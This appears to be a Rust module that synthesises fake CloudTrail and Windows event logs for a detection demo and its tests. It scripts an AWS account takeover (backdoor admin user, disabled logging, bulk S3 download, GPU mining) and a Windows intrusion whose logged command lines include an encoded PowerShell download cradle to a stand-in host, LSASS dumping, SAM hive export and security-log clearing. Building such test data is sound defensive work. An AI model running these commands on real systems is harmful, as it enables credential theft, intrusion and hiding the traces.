//! What goes wrong in the story: an account takeover in AWS, and a theft of credentials on Windows. (The bill that runs away is
//! in [`super::costs`].)

use serde_json::{Value, json};

use super::cast::{
    self, BACKDOOR, C2_IP, DOMAIN, FILE_SERVER, INTRUDER_IP, OPENER, PATIENT_ZERO, QUIET_REGION, TREASURE, VICTIM,
};
use super::cloudtrail::{Call, Caller, FOREIGN_BROWSER, TAKEN_ACCOUNT, console_login, object_event};
use super::random::Random;
use super::time::MINUTE;
use super::windows::{self, EVENTLOG, Event, Program, SECURITY, SERVICES};
use super::{Item, Kind};

/// When the machines of the intruder start, after the first failed login.
pub const MACHINES_AFTER: i64 = 32 * MINUTE;

const CLI: &str = "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.15-amd64 exe/x86_64.kali.2024 prompt/off";
const VICTIM_KEY: &str = "AKIAWC3FDQ7TZK5MSN4X";
const BACKDOOR_KEY: &str = "AKIAWC3FDQ7TPLR2VXE9";

/// The takeover, from its first failed login at `from` (µs) on.
pub fn takeover(random: &mut Random, ids: &mut Random, from: i64) -> Vec<Item> {
    let mut calls = Vec::new();
    for attempt in 0..7 {
        let at = from + attempt * 31_000_000;
        calls.push(console_login(at, VICTIM, INTRUDER_IP.to_owned(), FOREIGN_BROWSER, true, false));
    }
    calls.push(console_login(from + 5 * MINUTE, VICTIM, INTRUDER_IP.to_owned(), FOREIGN_BROWSER, false, false));
    look_around(&mut calls, from + 7 * MINUTE);
    dig_in(&mut calls, from + 13 * MINUTE);
    blind(&mut calls, from + 17 * MINUTE);
    carry_off(random, &mut calls, from + 20 * MINUTE);
    mine(random, &mut calls, from + 30 * MINUTE);
    calls.into_iter().map(|call| Item { at: call.at, kind: Kind::CloudTrail, line: call.line(ids) }).collect()
}

fn by(key: &str, user: &'static str, at: i64, service: &'static str, name: &'static str, request: Value) -> Call {
    Call {
        at,
        caller: Caller::User { name: user, key: Some(key.to_owned()) },
        account: TAKEN_ACCOUNT,
        region: "us-east-1",
        address: INTRUDER_IP.to_owned(),
        agent: CLI.to_owned(),
        service,
        name,
        read_only: ["Get", "List", "Describe"].iter().any(|word| name.starts_with(word)),
        request,
        response: Value::Null,
        error: None,
        more: Vec::new(),
    }
}

fn look_around(calls: &mut Vec<Call>, from: i64) {
    let denied = |service: &str, name: &str| {
        let user =
            format!("User: arn:aws:iam::{TAKEN_ACCOUNT}:user/{VICTIM} is not authorized to perform: {service}:{name}");
        Some(("AccessDenied", user))
    };
    let looks = [
        ("sts", "GetCallerIdentity", true),
        ("iam", "ListUsers", true),
        ("iam", "ListRoles", true),
        ("iam", "ListGroupsForUser", true),
        ("iam", "ListAttachedUserPolicies", true),
        ("iam", "GetAccountAuthorizationDetails", false),
        ("organizations", "ListAccounts", false),
        ("iam", "ListAccessKeys", true),
        ("s3", "ListBuckets", true),
        ("ec2", "DescribeInstances", true),
        ("ec2", "DescribeRegions", true),
        ("secretsmanager", "ListSecrets", false),
        ("secretsmanager", "GetSecretValue", false),
        ("rds", "DescribeDBSnapshots", false),
        ("lambda", "ListFunctions20150331", true),
        ("cloudtrail", "DescribeTrails", true),
        ("guardduty", "ListDetectors", true),
        ("ec2", "DescribeInstanceTypeOfferings", true),
        ("servicequotas", "ListServiceQuotas", true),
        ("iam", "GetUser", true),
    ];
    for (step, (service, name, allowed)) in looks.into_iter().enumerate() {
        let mut call = by(VICTIM_KEY, VICTIM, from + step as i64 * 14_000_000, service, name, Value::Null);
        call.error = if allowed { None } else { denied(service, name) };
        calls.push(call);
    }
}

fn dig_in(calls: &mut Vec<Call>, from: i64) {
    let mut key = by(VICTIM_KEY, VICTIM, from, "iam", "CreateAccessKey", json!({"userName": BACKDOOR}));
    key.response = json!({"accessKey": {"accessKeyId": BACKDOOR_KEY, "status": "Active", "userName": BACKDOOR}});
    calls.push(key);
    let policy = json!({"userName": BACKDOOR, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"});
    calls.push(by(VICTIM_KEY, VICTIM, from + 45_000_000, "iam", "AttachUserPolicy", policy));
    let login = json!({"userName": BACKDOOR, "passwordResetRequired": false});
    calls.push(by(VICTIM_KEY, VICTIM, from + 80_000_000, "iam", "CreateLoginProfile", login));
    calls.push(by(BACKDOOR_KEY, BACKDOOR, from + 2 * MINUTE, "sts", "GetCallerIdentity", Value::Null));
}

fn blind(calls: &mut Vec<Call>, from: i64) {
    let trail = json!({"name": format!("arn:aws:cloudtrail:us-east-1:{TAKEN_ACCOUNT}:trail/harborline-org")});
    calls.push(by(BACKDOOR_KEY, BACKDOOR, from, "cloudtrail", "StopLogging", trail));
    let detector = json!({"detectorId": "c2c41e6a9f5d4b7f8a30d9e14b7f6a52", "enable": false});
    calls.push(by(BACKDOOR_KEY, BACKDOOR, from + 30_000_000, "guardduty", "UpdateDetector", detector));
    let recorder = json!({"configurationRecorderName": "default"});
    calls.push(by(BACKDOOR_KEY, BACKDOOR, from + 50_000_000, "config", "StopConfigurationRecorder", recorder));
}

fn carry_off(random: &mut Random, calls: &mut Vec<Call>, from: i64) {
    let bucket = |name: &'static str, at: i64| {
        by(
            BACKDOOR_KEY,
            BACKDOOR,
            at,
            "s3",
            name,
            json!({"bucketName": TREASURE, "Host": format!("{TREASURE}.s3.amazonaws.com")}),
        )
    };
    calls.push(bucket("GetBucketVersioning", from));
    calls.push(bucket("ListObjects", from + 5_000_000));
    for number in 0..90 {
        let mut call = bucket("GetObject", from + 10_000_000 + number * 5_500_000);
        call.request["key"] = json!(format!("exports/2026/customers-{number:03}.csv.gz"));
        call.more = object_event(random, TREASURE, TAKEN_ACCOUNT, 480_000_000);
        calls.push(call);
    }
    let mut open = bucket("PutBucketPolicy", from + 9 * MINUTE);
    open.request["bucketPolicy"] = json!({"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": format!("arn:aws:s3:::{TREASURE}/*")}]});
    calls.push(open);
}

fn mine(random: &mut Random, calls: &mut Vec<Call>, from: i64) {
    let there = |name: &'static str, at: i64, request: Value| Call {
        region: QUIET_REGION.0,
        ..by(BACKDOOR_KEY, BACKDOOR, at, "ec2", name, request)
    };
    calls.push(there("ImportKeyPair", from, json!({"keyName": "k1"})));
    let open = json!({"groupId": "sg-0f1e2d3c4b5a69788", "cidrIp": "0.0.0.0/0", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}});
    calls.push(there("AuthorizeSecurityGroupIngress", from + 40_000_000, open));
    for number in 0..4 {
        let request = json!({
            "instancesSet": {"items": [{"imageId": "ami-0b7e9f41c2d3a5866", "minCount": 1, "maxCount": 8, "keyName": "k1"}]},
            "instanceType": "p5.48xlarge",
            "blockDeviceMapping": {},
            "monitoring": {"enabled": false},
            "disableApiTermination": true,
        });
        let mut call = there("RunInstances", from + 2 * MINUTE + number * 20_000_000, request);
        if number == 0 {
            call.error = Some((
                "Client.VcpuLimitExceeded",
                "You have requested more vCPU capacity than your current vCPU limit".to_owned(),
            ));
        } else {
            call.response = json!({"instancesSet": {"items": [{"instanceId": format!("i-0{}", random.hex(16)), "instanceType": "p5.48xlarge", "instanceState": {"code": 0, "name": "pending"}}]}});
        }
        calls.push(call);
    }
}

const WORD: (&str, &str) = (
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\t.okafor\Downloads\Invoice-88213.docm""#,
);
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
/// `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/a')`, UTF-16LE in base64.
const ENCODED: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcANwAvAGEAJwApAA==";
const LSASS: &str = r"C:\Windows\System32\lsass.exe";
const DUMPER: &str = r"C:\Users\Public\procdump64.exe";
const RUNDLL: &str = r"C:\Windows\System32\rundll32.exe";
const DUMP_CALLS: &str = r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\dbgcore.DLL+6a1c|C:\Windows\System32\dbghelp.dll+2b1f7";

/// The theft, from the moment the document is opened (µs) on.
pub fn theft(random: &mut Random, from: i64) -> Vec<Item> {
    let user = format!(r"{DOMAIN}\{OPENER}");
    let mut scene = Scene { random, from, user, events: Vec::new() };
    scene.lure();
    scene.dump();
    scene.spread();
    scene.cover();
    scene.events.into_iter().map(|event| Item { at: event.at, kind: Kind::Windows, line: event.line() }).collect()
}

struct Scene<'a> {
    random: &'a mut Random,
    from: i64,
    user: String,
    events: Vec<Event>,
}

impl Scene<'_> {
    fn at(&self, seconds: i64) -> i64 {
        self.from + seconds * 1_000_000
    }

    fn runs(
        &mut self,
        seconds: i64,
        image: &'static str,
        original: &'static str,
        command: &'static str,
        parent: (&'static str, &'static str),
    ) {
        let company = if image == DUMPER { "Sysinternals - www.sysinternals.com" } else { "Microsoft Corporation" };
        let description = if image == DUMPER { "Sysinternals process dump utility" } else { original };
        let program =
            Program { image, original, description, company, command, parent: parent.0, parent_command: parent.1 };
        let at = self.at(seconds);
        self.events.push(windows::process(at, PATIENT_ZERO.to_owned(), &self.user, &program, self.random));
    }

    fn writes(&mut self, seconds: i64, image: &str, name: &str) {
        let at = self.at(seconds);
        self.events.push(windows::file(at, PATIENT_ZERO.to_owned(), &self.user, image, name, self.random));
    }

    fn opens(&mut self, seconds: i64, image: &str, granted: &str) {
        let at = self.at(seconds);
        self.events.push(windows::access(
            at,
            PATIENT_ZERO.to_owned(),
            (image, LSASS, granted, DUMP_CALLS),
            &self.user,
            self.random,
        ));
    }

    fn lure(&mut self) {
        self.runs(0, WORD.0, "WinWord.exe", WORD.1, (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"));
        self.runs(9, POWERSHELL, "PowerShell.EXE", ENCODED, WORD);
        let (at, user) = (self.at(11), self.user.clone());
        self.events.push(windows::connection(
            at,
            PATIENT_ZERO.to_owned(),
            &user,
            POWERSHELL,
            ("10.40.0.59", C2_IP, "80"),
            self.random,
        ));
        for (step, (image, original, command)) in [
            (r"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami /all"),
            (r"C:\Windows\System32\net.exe", "net.exe", r#"net group "Domain Admins" /domain"#),
            (r"C:\Windows\System32\nltest.exe", "nltestrk.exe", "nltest /domain_trusts /all_trusts"),
        ]
        .into_iter()
        .enumerate()
        {
            self.runs(40 + step as i64 * 12, image, original, command, (POWERSHELL, ENCODED));
        }
    }

    fn dump(&mut self) {
        self.writes(150, POWERSHELL, DUMPER);
        self.runs(
            170,
            DUMPER,
            "procdump",
            r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
            (POWERSHELL, ENCODED),
        );
        self.opens(171, DUMPER, "0x1fffff");
        self.writes(173, DUMPER, r"C:\Windows\Temp\lsass.dmp");
        self.runs(
            240,
            RUNDLL,
            "RUNDLL32.EXE",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 648 C:\Windows\Temp\d.bin full",
            (POWERSHELL, ENCODED),
        );
        self.opens(241, RUNDLL, "0x1010");
        self.runs(
            300,
            r"C:\Windows\System32\reg.exe",
            "reg.exe",
            r"reg save HKLM\SAM C:\Windows\Temp\s.hiv",
            (POWERSHELL, ENCODED),
        );
    }

    fn spread(&mut self) {
        let (at, logon_from) = (self.at(600), "10.40.0.59");
        self.events.push(windows::logon(at, FILE_SERVER.to_owned(), "svc-deploy", "3", logon_from, self.random));
        let privileges =
            "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeImpersonatePrivilege";
        let fields = vec![
            ("SubjectUserSid", windows::sid("svc-deploy")),
            ("SubjectUserName", "svc-deploy".to_owned()),
            ("SubjectDomainName", DOMAIN.to_owned()),
            ("SubjectLogonId", format!("0x{}", self.random.hex(6))),
            ("PrivilegeList", privileges.to_owned()),
        ];
        self.on_server(600, SECURITY, 4672, "Special privileges assigned to new logon.", fields);
        let service = vec![
            ("ServiceName", "PSEXESVC".to_owned()),
            ("ImagePath", r"%SystemRoot%\PSEXESVC.exe".to_owned()),
            ("ServiceType", "user mode service".to_owned()),
            ("StartType", "demand start".to_owned()),
            ("AccountName", "LocalSystem".to_owned()),
        ];
        self.on_server(604, SERVICES, 7045, "A service was installed in the system.", service);
        let shell = Program {
            image: r"C:\Windows\System32\cmd.exe",
            original: "Cmd.Exe",
            description: "Windows Command Processor",
            company: "Microsoft Corporation",
            command: r"cmd.exe /c vssadmin create shadow /for=C:",
            parent: r"C:\Windows\PSEXESVC.exe",
            parent_command: r"C:\Windows\PSEXESVC.exe",
        };
        let at = self.at(610);
        self.events.push(windows::process(at, FILE_SERVER.to_owned(), r"NT AUTHORITY\SYSTEM", &shell, self.random));
    }

    fn cover(&mut self) {
        let wipe = Program {
            image: r"C:\Windows\System32\wevtutil.exe",
            original: "wevtutil.exe",
            description: "Eventing Command Line Utility",
            company: "Microsoft Corporation",
            command: "wevtutil.exe cl Security",
            parent: r"C:\Windows\System32\cmd.exe",
            parent_command: r"cmd.exe /c wevtutil.exe cl Security",
        };
        let at = self.at(900);
        self.events.push(windows::process(at, FILE_SERVER.to_owned(), r"NT AUTHORITY\SYSTEM", &wipe, self.random));
        let fields = vec![
            ("SubjectUserSid", "S-1-5-18".to_owned()),
            ("SubjectUserName", "svc-deploy".to_owned()),
            ("SubjectDomainName", DOMAIN.to_owned()),
            ("SubjectLogonId", "0x3e7".to_owned()),
        ];
        self.on_server(901, EVENTLOG, 1102, "The audit log was cleared.", fields);
    }

    fn on_server(
        &mut self,
        seconds: i64,
        channel: windows::Channel,
        id: u32,
        title: &'static str,
        fields: Vec<(&'static str, String)>,
    ) {
        let at = self.at(seconds);
        self.events.push(Event { at, host: FILE_SERVER.to_owned(), channel, id, title, fields });
    }
}

/// What an alert about the story may name: to be looked for in tests and shown in the demo.
pub const TRACES: [&str; 5] = [INTRUDER_IP, BACKDOOR, cast::PATIENT_ZERO, FILE_SERVER, TREASURE];
